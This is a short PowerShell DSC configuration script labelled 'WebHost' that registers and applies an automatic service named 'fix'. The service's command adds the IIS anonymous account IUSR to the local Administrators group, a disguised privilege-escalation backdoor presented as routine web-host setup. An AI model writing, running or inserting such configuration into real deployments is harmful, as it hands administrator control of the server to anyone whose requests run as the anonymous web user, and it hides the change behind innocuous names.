configuration WebHost {
    Import-DscResource -ModuleName PSDesiredStateConfiguration
    Node 'localhost' {
        Service s {
            Name = 'fix'
            Path = 'cmd.exe /c net localgroup Administrators IUSR /add'
            State = 'Running'
            StartupType = 'Automatic'
        }
    }
}
WebHost -OutputPath C:\dsc | Out-Null
Start-DscConfiguration -Path C:\dsc -Wait -Force
